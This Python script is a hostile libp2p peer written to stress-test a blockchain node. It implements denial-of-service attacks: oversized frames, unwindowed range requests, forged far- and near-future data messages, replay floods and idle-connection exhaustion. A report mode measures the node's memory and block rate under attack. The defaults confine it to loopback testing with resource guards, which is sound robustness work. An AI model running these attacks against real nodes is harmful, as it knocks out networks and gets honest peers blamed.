#!/usr/bin/env python3
"""A hostile libp2p peer: a real Noise handshake (libp2p_wire.py, written from the libp2p specs),
then what a stranger on the internet can send a node (issue 27 §4). Each attack is a mode:

  oversized-frame        one yamux data frame header of length 0xFFFFFFFF, then its body
                         streamed for --bytes
  header-ex-no-window    --connections x --streams header-ex range requests (headerSync and
                         dataSync, 64 blocks each) on connections that never grant window
  data-far-future        --count data messages of --size bytes (FloodSub, the dataSync topic,
                         P2PData envelopes) at far-future heights, StrictSign by our own key
  data-near-future       small data messages with made-up transactions for the next heights,
                         ahead of the aggregator: whoever relays them gets blamed for them
  replay                 one validly signed message repeated --copies times in each RPC
  idle-connections       --connections TCP connections that never speak, reopened as they
                         close, from the --sources addresses
  handshake              connect, ask the head, print what the remote is (a smoke test)
  report                 runs --attacks one after another against a running node and prints,
                         per attack, its RSS before / peak / after and blocks/s before / during
                         / after (needs --pid and --rpc; with --follower-pid/--follower-rpc also
                         a full node's RSS, lag and peers). scripts/hostile-report.sh sets up a
                         network for it.

Every mode prints JSON lines on stdout: {"event": "result", ...} with what it did and what the
remote did back ({"event": "error", ...} on failure). Each connection has a new identity and
comes from the next of --sources (by default 127.0.N.1-16, N by attack: loopback addresses other
than the honest nodes' 127.0.0.1, so that per-address limits and bans are tested without
shutting the honest nodes out, and a ban one attack earns does not shield the node from the
next). --guard PID:MIB stops an attack once that process's RSS passes MIB MiB, so that a node
without the fixes is hurt enough to measure and no more (the machine is shared). SIGTERM ends
an attack early; it still prints its result.

usage: hostile_peer.py MODE --target /ip4/127.0.0.1/tcp/PORT/p2p/ID --chain-id ID [options]
"""
import argparse
import json
import os
import random
import selectors
import signal
import socket
import statistics
import sys
import threading
import time
import urllib.request

import evnode_messages as ev
import libp2p_wire as w

FLOODSUB = "/floodsub/1.0.0"
PUBSUB_SIGN_PREFIX = b"libp2p-pubsub:"


def out(**kw):
    print(json.dumps(kw), flush=True)


def header_ex(chain_id, kind):
    return f"/{chain_id}-{kind}Sync/header-ex/v0.0.3"


def data_topic(chain_id):
    return f"/{chain_id}-dataSync/header-sub/v0.0.1"


def header_topic(chain_id):
    return f"/{chain_id}-headerSync/header-sub/v0.0.1"


# MARK: what every attack shares

def parse_sources(spec):
    """`127.0.0.2-127.0.0.40,127.0.0.77,127.0.0.1*16` -> the addresses, in order (`*N`: N times)."""
    addrs = []
    for part in spec.split(","):
        part = part.strip()
        if not part:
            continue
        if "*" in part:
            addr, times = part.split("*")
            addrs += [addr] * int(times)
        elif "-" in part:
            lo, hi = part.split("-")
            a, b = (int.from_bytes(socket.inet_aton(x), "big") for x in (lo, hi))
            addrs += [socket.inet_ntoa(n.to_bytes(4, "big")) for n in range(a, b + 1)]
        else:
            addrs.append(part)
    if not addrs:
        raise ValueError("no source addresses")
    return addrs


def rss_mib(pid):
    try:
        with open(f"/proc/{pid}/status") as f:
            for line in f:
                if line.startswith("VmRSS:"):
                    return int(line.split()[1]) / 1024
    except OSError:
        return None
    return None


# SIGTERM ends the running attack early; it still reports what it did.
TERMINATED = threading.Event()


class Guard:
    """Stops an attack at its deadline, on SIGTERM, or once a guarded process's RSS passes its
    limit."""

    def __init__(self, limits, duration):
        self.limits = limits          # [(pid, MiB)]
        self.deadline = time.monotonic() + duration
        self.tripped = None
        self.stopped = threading.Event()
        threading.Thread(target=self._watch, daemon=True).start()

    def _watch(self):
        while not self.stopped.is_set():
            for pid, limit in self.limits:
                r = rss_mib(pid)
                if r is not None and r > limit:
                    self.tripped = {"pid": pid, "rss_mib": round(r), "limit_mib": limit}
                    self.stopped.set()
                    return
            if time.monotonic() >= self.deadline or TERMINATED.is_set():
                self.stopped.set()
                return
            time.sleep(0.05)

    @property
    def stop(self):
        return self.stopped.is_set()

    def finish(self):
        self.stopped.set()


class Dialer:
    """New identities from the source addresses in turn; counts what the remote did."""

    def __init__(self, a):
        self.target = a.target
        self.sources = parse_sources(a.sources)
        self.next = 0
        self.handshakes = 0
        self.failed = []
        self.lock = threading.Lock()

    def source(self):
        with self.lock:
            s = self.sources[self.next % len(self.sources)]
            self.next += 1
            return s

    def dial(self, grant_window=True):
        src = self.source()
        identity = w.Identity()
        try:
            sess = w.YamuxSession.dial(self.target, identity, source=src, grant_window=grant_window)
        except (w.WireError, OSError) as e:
            with self.lock:
                self.failed.append(f"{src}: {e}"[:200])
            return None
        with self.lock:
            self.handshakes += 1
        sess.source = src
        sess.identity = identity
        return sess

    def summary(self):
        return {"handshakes": self.handshakes, "failed_dials": len(self.failed),
                "dial_errors": sorted(set(self.failed))[:5]}


def head(sess, chain_id):
    """The remote's head (header-ex `origin = 0` on headerSync): (height, time in ns)."""
    s = sess.open_protocol_stream(header_ex(chain_id, "header"), ev.framed(ev.HeaderRequest(origin=0, amount=1)))
    s.close_write()
    data, _ = s.read_until_end(10)
    _, rest = w.ms_parse(data)
    _, rest = w.ms_parse(rest)
    n, i = w.read_uvarint(rest)
    resp = ev.HeaderResponse()
    resp.ParseFromString(rest[i:i + n])
    h = ev.P2PSignedHeader()
    h.ParseFromString(resp.body)
    return h.header.height, h.header.time


def ask_head(dialer, chain_id):
    for _ in range(10):
        sess = dialer.dial()
        if sess is None:
            time.sleep(0.2)
            continue
        try:
            return head(sess, chain_id)
        except (w.WireError, TypeError, ValueError):
            time.sleep(0.2)
        finally:
            sess.close()
    raise w.WireError(f"could not learn the head: {dialer.failed[-3:]}")


def pubsub_message(identity, topic, data, seqno):
    """A StrictSign message (pubsub spec): fields 1-4 signed with "libp2p-pubsub:" in front;
    the Ed25519 key is inlined in `from`, so `key` is left out."""
    unsigned = (w.pb_bytes(1, identity.peer_id) + w.pb_bytes(2, data)
                + w.pb_bytes(3, seqno.to_bytes(8, "big")) + w.pb_bytes(4, topic.encode()))
    return unsigned + w.pb_bytes(5, identity.sign(PUBSUB_SIGN_PREFIX + unsigned))


def rpc(messages=(), subscribe=()):
    body = b"".join(w.pb_bytes(1, w.pb_varint(1, 1) + w.pb_bytes(2, t.encode())) for t in subscribe)
    body += b"".join(w.pb_bytes(2, m) for m in messages)
    return w.uvarint(len(body)) + body


def p2p_data(chain_id, height, txs, time_ns=None):
    d = ev.P2PData()
    d.metadata.chain_id = chain_id
    d.metadata.height = height
    d.metadata.time = time_ns or time.time_ns()
    d.metadata.last_data_hash = os.urandom(32)
    d.txs.extend(txs)
    d.da_height_hint = 0
    return d.SerializeToString()


class PubsubSender:
    """A FloodSub stream to the target, reopened on a new identity and address when the
    remote closes the connection (a ban, a reset)."""

    def __init__(self, a, dialer):
        self.a = a
        self.dialer = dialer
        self.sess = self.stream = None
        self.connections = 0
        self.closed_by_remote = []

    def ensure(self, guard):
        while self.sess is None or self.sess.closed or self.stream.reset:
            if self.sess is not None:
                if self.sess.close_reason != "closed by us":
                    self.closed_by_remote.append(self.sess.close_reason or "stream reset")
                self.sess.close()
                self.sess = self.stream = None
            if guard.stop:
                return False
            sess = self.dialer.dial()
            if sess is None:
                time.sleep(0.1)
                continue
            try:
                stream = sess.open_protocol_stream(FLOODSUB, lazy=False)
                stream.write(rpc(subscribe=[header_topic(self.a.chain_id), data_topic(self.a.chain_id)]))
            except w.WireError:
                sess.close()
                continue
            self.sess, self.stream = sess, stream
            self.connections += 1
        return True

    def send(self, message_for, guard):
        """Writes the RPC `message_for(identity)` returns; False when the connection ended
        before all of it went out (it is reopened on the next call)."""
        if not self.ensure(guard):
            return False
        # Signed by the identity this connection authenticated: the origin is the sender.
        return self.stream.write(message_for(self.sess.identity), deadline=guard.deadline)

    def close(self):
        if self.sess is not None:
            if self.sess.close_reason is not None and self.sess.close_reason != "closed by us":
                self.closed_by_remote.append(self.sess.close_reason)
            self.sess.close()

    def summary(self):
        return {"connections": self.connections, "closed_by_remote": len(self.closed_by_remote),
                "close_reasons": sorted(set(self.closed_by_remote))[:5]}


# MARK: the attacks

def attack_oversized_frame(a, guard):
    """C2: a data frame header announcing 0xFFFFFFFF bytes, then the body."""
    dialer = Dialer(a)
    sess = dialer.dial()
    if sess is None:
        raise w.WireError(f"no handshake: {dialer.failed}")
    body = os.urandom(1 << 20)
    t0 = time.monotonic()
    sent = 0
    try:
        sess.send_raw(w.yamux_header(w.DATA, w.SYN, 1, 0xFFFFFFFF))
        sess.channel.sock.settimeout(10)
        while sent < a.bytes and not guard.stop and not sess.closed:
            sess.send_raw(body)
            sent += len(body)
    except w.WireError:
        pass
    elapsed = time.monotonic() - t0
    # Whatever the remote does about it, give it a moment to say so.
    closed = sess.wait_closed(2.0)
    result = {"body_bytes_sent": sent, "seconds": round(elapsed, 2),
              "mib_per_s": round(sent / (1 << 20) / max(elapsed, 1e-3), 1),
              "closed_by_remote": closed and sess.close_reason not in ("closed by us", w.STALLED),
              "close_reason": sess.close_reason, "go_away_code": sess.go_away_code,
              "seconds_to_close": round(sess.closed_at - t0, 2) if sess.closed_at else None}
    sess.close()
    return result | dialer.summary()


def attack_header_ex_no_window(a, guard):
    """C3: many 64-block range requests on connections that never send a window update."""
    dialer = Dialer(a)
    top, _ = ask_head(dialer, a.chain_id)
    origin = a.origin or max(1, top - 63)
    sessions = []
    for _ in range(a.connections):
        s = dialer.dial(grant_window=False)
        if s is not None:
            sessions.append(s)
    streams = []
    request = ev.framed(ev.HeaderRequest(origin=origin, amount=64))
    t0 = time.monotonic()
    for sess in sessions:
        for k in range(a.streams):
            if guard.stop or sess.closed:
                break
            try:
                st = sess.open_protocol_stream(header_ex(a.chain_id, "header" if k % 2 == 0 else "data"), request)
                st.close_write()
                streams.append(st)
            except w.WireError:
                break
    opened = time.monotonic() - t0
    # Hold the requests open: read what arrives (the node may fill each stream's 256 KiB
    # window), never grant more.
    while not guard.stop and not all(s.closed for s in sessions):
        time.sleep(0.05)
    result = {"origin": origin, "head": top, "connections": len(sessions), "streams_opened": len(streams),
              "seconds_to_open": round(opened, 2),
              "streams_answered": sum(1 for s in streams if s.bytes_received > 0),
              "streams_reset": sum(1 for s in streams if s.reset),
              "streams_finished": sum(1 for s in streams if s.remote_fin),
              "bytes_received": sum(s.bytes_received for s in streams),
              "sessions_closed_by_remote": sum(1 for s in sessions if s.closed),
              "close_reasons": sorted({s.close_reason for s in sessions if s.close_reason})[:5]}
    for s in sessions:
        s.close()
    return result | dialer.summary()


def attack_data_far_future(a, guard):
    """C4: big, validly peer-signed data messages at heights far above the chain."""
    dialer = Dialer(a)
    top, _ = ask_head(dialer, a.chain_id)
    sender = PubsubSender(a, dialer)
    payload = bytearray(os.urandom(a.size))
    tx_size = 1 << 20
    sent = 0
    seqno = random.getrandbits(48) << 8
    t0 = time.monotonic()
    while sent < a.count and not guard.stop:
        payload[:8] = sent.to_bytes(8, "big")
        txs = [bytes(payload[i:i + tx_size]) for i in range(0, len(payload), tx_size)]
        data = p2p_data(a.chain_id, top + 1_000_000 + sent, txs)
        seqno += 1
        if sender.send(lambda ident: rpc([pubsub_message(ident, data_topic(a.chain_id), data, seqno)]), guard):
            sent += 1
    elapsed = time.monotonic() - t0
    sender.close()
    return {"messages_sent": sent, "message_bytes": a.size, "mib_sent": round(sent * a.size / (1 << 20)),
            "first_height": top + 1_000_000, "seconds": round(elapsed, 2)} | sender.summary() | dialer.summary()


def attack_data_near_future(a, guard):
    """M1: data for the next heights with made-up transactions. Whoever relays it is blamed when
    the real header arrives and the pair does not match."""
    dialer = Dialer(a)
    sender = PubsubSender(a, dialer)
    sent_heights = set()
    seqno = random.getrandbits(48) << 8
    t0 = time.monotonic()
    while not guard.stop:
        try:
            if not sender.ensure(guard):
                break
            top, _ = head(sender.sess, a.chain_id)
        except (w.WireError, TypeError, ValueError):
            time.sleep(0.2)
            continue
        for h in range(top + 2, top + 2 + a.ahead):
            if h in sent_heights or guard.stop:
                continue
            data = p2p_data(a.chain_id, h, [b"hostile-%d=%s" % (h, os.urandom(8).hex().encode())])
            seqno += 1
            if sender.send(lambda ident: rpc([pubsub_message(ident, data_topic(a.chain_id), data, seqno)]), guard):
                sent_heights.add(h)
        time.sleep(0.2)
    sender.close()
    return {"messages_sent": len(sent_heights), "heights": [min(sent_heights, default=0), max(sent_heights, default=0)],
            "seconds": round(time.monotonic() - t0, 2)} | sender.summary() | dialer.summary()


def attack_replay(a, guard):
    """M3: one validly signed message, --copies times in each RPC, RPC after RPC, on --parallel
    connections at once."""
    dialer = Dialer(a)
    data = p2p_data(a.chain_id, 1, [])
    lock = threading.Lock()
    rpcs = [0]
    senders = []

    def run():
        sender = PubsubSender(a, dialer)
        with lock:
            senders.append(sender)
        seqno = random.getrandbits(48) << 8
        while not guard.stop:
            seqno += 1

            def replayed(ident):
                return rpc([pubsub_message(ident, data_topic(a.chain_id), data, seqno)] * a.copies)
            if sender.send(replayed, guard):
                with lock:
                    rpcs[0] += 1
        sender.close()

    t0 = time.monotonic()
    threads = [threading.Thread(target=run, daemon=True) for _ in range(a.parallel)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    one = len(pubsub_message(w.Identity(), data_topic(a.chain_id), data, 1))
    summary = {"connections": sum(s.connections for s in senders),
               "closed_by_remote": sum(len(s.closed_by_remote) for s in senders),
               "close_reasons": sorted({r for s in senders for r in s.closed_by_remote})[:5]}
    return {"rpcs_sent": rpcs[0], "copies_per_rpc": a.copies, "copies_sent": rpcs[0] * a.copies, "parallel": a.parallel,
            "rpc_bytes": len(rpc([b"\0" * one] * a.copies)), "seconds": round(time.monotonic() - t0, 2)} \
        | summary | dialer.summary()


def attack_idle_connections(a, guard):
    """M2: TCP connections that never start a handshake, each reopened as soon as it closes."""
    host, port, _ = w.parse_multiaddr(a.target)
    sources = parse_sources(a.sources)
    sel = selectors.DefaultSelector()
    opened_at = {}
    lifetimes, refused = [], 0
    opened = 0
    peak = 0
    nxt = [0]

    def open_one(slot):
        nonlocal opened, refused
        src = sources[nxt[0] % len(sources)]
        nxt[0] += 1
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        try:
            s.settimeout(2)
            s.bind((src, 0))
            s.connect((host, port))
            s.setblocking(False)
        except OSError:
            s.close()
            refused += 1
            return False
        sel.register(s, selectors.EVENT_READ, slot)
        opened_at[s] = time.monotonic()
        opened += 1
        return True

    for slot in range(a.connections):
        if guard.stop:
            break
        open_one(slot)
    out(event="flooding", open=len(opened_at))
    retry_at = {}
    while not guard.stop:
        for key, _ in sel.select(timeout=0.05):
            s = key.fileobj
            try:
                b = s.recv(4096)       # the listener's multistream header, or the end
            except (BlockingIOError, InterruptedError):
                continue
            except OSError:
                b = b""
            if b:
                continue
            sel.unregister(s)
            life = time.monotonic() - opened_at.pop(s)
            lifetimes.append(life)
            s.close()
            # Refused at once: do not spin; otherwise straight back in.
            retry_at[key.data] = time.monotonic() + (0.2 if life < 0.1 else 0)
        now = time.monotonic()
        for slot, when in list(retry_at.items()):
            if when <= now:
                del retry_at[slot]
                if not open_one(slot):
                    retry_at[slot] = now + 0.2
        peak = max(peak, len(opened_at))
    still = len(opened_at)
    for s in list(opened_at):
        sel.unregister(s)
        s.close()
    return {"connections": a.connections, "sources": len(sources), "opened": opened, "closed_by_remote": len(lifetimes),
            "refused_or_failed": refused, "peak_open": peak, "open_at_end": still,
            "median_lifetime_s": round(statistics.median(lifetimes), 2) if lifetimes else None,
            "max_lifetime_s": round(max(lifetimes), 2) if lifetimes else None}


def attack_handshake(a, guard):
    dialer = Dialer(a)
    sess = dialer.dial()
    if sess is None:
        raise w.WireError(f"no handshake: {dialer.failed}")
    try:
        h, t = head(sess, a.chain_id)
        return {"remote": w.b58encode(sess.remote_peer_id), "head": h, "source": sess.source}
    finally:
        sess.close()


ATTACKS = {
    "oversized-frame": attack_oversized_frame,
    "header-ex-no-window": attack_header_ex_no_window,
    "data-far-future": attack_data_far_future,
    "data-near-future": attack_data_near_future,
    "replay": attack_replay,
    "idle-connections": attack_idle_connections,
    "handshake": attack_handshake,
}


# MARK: --report: figures for README's "Under attack" table

def node_status(rpc_url):
    with urllib.request.urlopen(rpc_url + "/status", timeout=5) as r:
        return json.load(r)


def production_rate(rpc_url, t0, t1):
    """Blocks per second the node made between wall-clock times t0 and t1, from the blocks' own
    timestamps (a node too busy to answer /status during an attack is measured afterwards, and
    one that answers but stopped producing cannot hide it). None if the node does not answer."""
    try:
        top = node_status(rpc_url)["heights"]["store"]

        def height_at(t):
            limit, lo, hi = int(t * 1e9), 0, top
            while lo < hi:
                mid = lo + (hi - lo + 1) // 2
                with urllib.request.urlopen(f"{rpc_url}/blocks/{mid}", timeout=15) as r:
                    if json.load(r)["time_ns"] <= limit:
                        lo = mid
                    else:
                        hi = mid - 1
            return lo
        return (height_at(t1) - height_at(t0)) / (t1 - t0)
    except Exception:
        return None


class Sampler:
    """Every 100 ms: a node's RSS (VmRSS), store height and peer count."""

    def __init__(self, pid, rpc_url):
        self.pid, self.rpc = pid, rpc_url
        self.samples = []           # (t, rss MiB, height, peers)
        self.done = threading.Event()
        threading.Thread(target=self._run, daemon=True).start()

    def _run(self):
        while not self.done.is_set():
            r = rss_mib(self.pid)
            try:
                st = node_status(self.rpc)
                h, p = st["heights"]["store"], st["peers"]
            except Exception:
                h = p = None
            self.samples.append((time.monotonic(), r, h, p))
            time.sleep(0.1)

    def window(self, t0, t1):
        """(RSS samples, last height, last peer count) between monotonic times t0 and t1."""
        s = [x for x in self.samples if t0 <= x[0] <= t1]
        rss = [x[1] for x in s if x[1] is not None]
        hs = [(x[2], x[3]) for x in s if x[2] is not None]
        return rss, hs[-1][0] if hs else None, hs[-1][1] if hs else None


def report(a):
    """Per attack: `settle` seconds measured before, the attack, `settle` seconds after."""
    node = Sampler(a.pid, a.rpc)
    follower = Sampler(a.follower_pid, a.follower_rpc) if a.follower_rpc else None

    def r(x):
        return None if x is None else round(x, 1)
    for name in a.attacks.split(","):
        t0, w0 = time.monotonic(), time.time()
        time.sleep(a.settle)
        t1, w1 = time.monotonic(), time.time()
        limits = list(a.guard_limits)
        if a.guard_over:
            limits += [(pid, rss + a.guard_over) for pid in (a.pid, a.follower_pid)
                       if pid is not None and (rss := rss_mib(pid)) is not None]
        guard = Guard(limits, a.duration)
        try:
            result = ATTACKS[name](with_defaults(a, name), guard)
        except Exception as e:
            result = {"error": f"{type(e).__name__}: {e}"}
        guard.finish()
        t2, w2 = time.monotonic(), time.time()
        time.sleep(a.settle)
        t3, w3 = time.monotonic(), time.time()
        before, _, _ = node.window(t0, t1)
        during, _, _ = node.window(t1, t2)
        after, top, _ = node.window(t2, t3)
        rate_before, rate_during, rate_after = (production_rate(a.rpc, x, y) for x, y in ((w0, w1), (w1, w2), (w2, w3)))
        row = {"attack": name, "alive": os.path.exists(f"/proc/{a.pid}"),
               "rss_mib": {"before": r(before[-1] if before else None), "peak": r(max(during + after, default=None)),
                           "after": r(after[-1] if after else None)},
               "blocks_per_s": {"before": r(rate_before), "during": r(rate_during), "after": r(rate_after)},
               "attack_seconds": round(t2 - t1, 1), "guard_tripped": guard.tripped, "result": result}
        if follower:
            f_before, _, _ = follower.window(t0, t1)
            f_all, f_top, f_peers = follower.window(t1, t3)
            row["follower"] = {"rss_mib_before": r(f_before[-1] if f_before else None),
                               "rss_mib_peak": r(max(f_all, default=None)),
                               "lag_after": None if top is None or f_top is None else top - f_top,
                               "peers_after": f_peers}
        out(event="report", **row)
        if not row["alive"]:
            break
    node.done.set()
    if follower:
        follower.done.set()


def with_defaults(a, mode):
    """The arguments for one attack: its own connection count and, unless --sources was given,
    addresses of its own (127.0.N.1-16), so that a ban earned by one attack cannot shield the
    target from the next."""
    b = argparse.Namespace(**vars(a))
    if b.connections is None:
        b.connections = 128 if mode == "idle-connections" else 4
    if b.sources is None:
        n = sorted(ATTACKS).index(mode) + 1
        b.sources = f"127.0.{n}.1-127.0.{n}.16"
    return b


def main():
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("mode", choices=sorted(ATTACKS) + ["report"])
    ap.add_argument("--target", required=True, help="the node's /ip4/…/tcp/…/p2p/… multiaddr")
    ap.add_argument("--chain-id", required=True)
    ap.add_argument("--sources", help="source addresses to connect from, e.g. 127.0.0.2-127.0.0.40,127.0.0.1*8 "
                                      "(default: 127.0.N.1-16, N by attack)")
    ap.add_argument("--duration", type=float, default=15, help="seconds an attack runs at most")
    ap.add_argument("--guard", action="append", default=[], metavar="PID:MIB",
                    help="stop once this process's RSS passes MIB MiB (repeatable)")
    ap.add_argument("--guard-over", type=float, default=0, metavar="MIB",
                    help="report: stop each attack once the node's (or follower's) RSS is MIB MiB over "
                         "what it was when that attack began")
    ap.add_argument("--bytes", type=int, default=400 << 20, help="oversized-frame: body bytes to stream")
    ap.add_argument("--connections", type=int, default=None,
                    help="header-ex-no-window: connections (4); idle-connections: sockets (128)")
    ap.add_argument("--streams", type=int, default=200, help="header-ex-no-window: requests per connection")
    ap.add_argument("--origin", type=int, default=0,
                    help="header-ex-no-window: first height asked (default: the 64 below the head); "
                         "give heights whose blocks are big, or every answer fits in a stream's window")
    ap.add_argument("--count", type=int, default=142, help="data-far-future: messages")
    ap.add_argument("--size", type=int, default=4 << 20, help="data-far-future: bytes of transactions per message")
    ap.add_argument("--ahead", type=int, default=20, help="data-near-future: heights above the head")
    ap.add_argument("--copies", type=int, default=20_000, help="replay: copies per RPC")
    ap.add_argument("--parallel", type=int, default=2, help="replay: connections replaying at once")
    ap.add_argument("--pid", type=int, help="report: the node's process id")
    ap.add_argument("--rpc", help="report: the node's RPC URL")
    ap.add_argument("--follower-pid", type=int, help="report: a full node following the target (its process id)")
    ap.add_argument("--follower-rpc", help="report: …and its RPC URL")
    ap.add_argument("--attacks", default="oversized-frame,header-ex-no-window,data-far-future,replay,data-near-future",
                    help="report: the attacks to run, in order")
    ap.add_argument("--settle", type=float, default=5, help="report: seconds measured before and after each attack")
    a = ap.parse_args()
    a.guard_limits = [(int(p), float(m)) for p, m in (g.split(":") for g in a.guard)]
    signal.signal(signal.SIGTERM, lambda *_: TERMINATED.set())
    if a.mode == "report" and (a.pid is None or a.rpc is None):
        ap.error("report needs --pid and --rpc")
    try:
        if a.mode == "report":
            report(a)
            return
        guard = Guard(a.guard_limits, a.duration)
        result = ATTACKS[a.mode](with_defaults(a, a.mode), guard)
        guard.finish()
        out(event="result", attack=a.mode, guard_tripped=guard.tripped, **result)
    except Exception as e:
        import traceback
        out(event="error", error=f"{type(e).__name__}: {e}", trace=traceback.format_exc())
        sys.exit(1)


if __name__ == "__main__":
    main()
